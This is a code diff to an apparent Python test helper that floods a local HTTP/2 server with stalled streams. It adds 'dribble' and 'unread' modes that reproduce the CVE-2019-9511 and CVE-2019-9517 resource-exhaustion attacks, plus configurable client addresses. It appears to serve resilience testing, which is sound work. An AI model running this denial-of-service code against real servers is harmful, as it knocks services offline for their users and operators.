@@ -5,12 +5,16 @@ import itertools
 import struct
 from collections.abc import Sequence
 from types import TracebackType
-from typing import Self
+from typing import Literal, Self
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_SETTINGS, _HEADERS, _PING, _GOAWAY = 4, 1, 6, 7
+_SETTINGS, _HEADERS, _PING, _GOAWAY, _WINDOW_UPDATE = 4, 1, 6, 7, 8
+_OPEN = 2**31 - 1
 _INITIAL_WINDOW_SIZE = 4
 _END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
+
+
+Mode = Literal["closed", "dribble", "unread"]
 
 
 def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
@@ -33,6 +37,8 @@ def _headers(fields: Sequence[tuple[str, str]]) -> bytes:
 class ClosedWindows:
     """`connections` × `streams` requests for `path` whose answers nobody takes, until the block ends.
 
+    `mode`: `closed` windows; `dribble` opens them by a byte at a time (CVE-2019-9511); `unread` opens all of them and
+    never reads from the socket (CVE-2019-9517).
     `addresses`: the client's, as a proxy in front notes it, one after the other. `source`: of the connections.
     """
 
@@ -45,10 +51,11 @@ class ClosedWindows:
         streams: int = 100,
         addresses: Sequence[str] = (),
         source: str = "127.0.0.1",
+        mode: Mode = "closed",
     ) -> None:
         self._port, self._path = port, path
         self._connections, self._streams = connections, streams
-        self._source = source
+        self._source, self._mode = source, mode
         self._addresses = itertools.cycle(addresses or [""])
         self._writers: list[asyncio.StreamWriter] = []
         self._readers: list[asyncio.Task[None]] = []
@@ -63,11 +70,13 @@ class ClosedWindows:
     ) -> None:
         for writer in self._writers:
             writer.transport.abort()
+        for reader in self._readers:
+            reader.cancel()
         await asyncio.gather(*self._readers, return_exceptions=True)
 
     async def _open(self) -> None:
         reader, writer = await asyncio.open_connection("127.0.0.1", self._port, local_addr=(self._source, 0))
-        settings = struct.pack(">HI", _INITIAL_WINDOW_SIZE, 0)
+        settings = struct.pack(">HI", _INITIAL_WINDOW_SIZE, _OPEN if self._mode == "unread" else 0)
         writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, settings))
         fields = [(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", self._path)]
         for number in range(self._streams):
@@ -76,7 +85,17 @@ class ClosedWindows:
             writer.write(_frame(_HEADERS, _END_STREAM | _END_HEADERS, 2 * number + 1, block))
         await writer.drain()
         self._writers.append(writer)
-        self._readers.append(asyncio.create_task(self._keep(reader, writer)))
+        if self._mode != "unread":
+            self._readers.append(asyncio.create_task(self._keep(reader, writer)))
+        if self._mode == "dribble":
+            self._readers.append(asyncio.create_task(self._dribble(writer)))
+
+    async def _dribble(self, writer: asyncio.StreamWriter) -> None:
+        """Open the window of every stream by one byte, ten times a second."""
+        while True:
+            for number in range(self._streams):
+                writer.write(_frame(_WINDOW_UPDATE, 0, 2 * number + 1, struct.pack(">I", 1)))
+            await asyncio.sleep(0.1)
 
     async def _keep(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         """Acknowledge what keeps the connection alive, and open no window."""
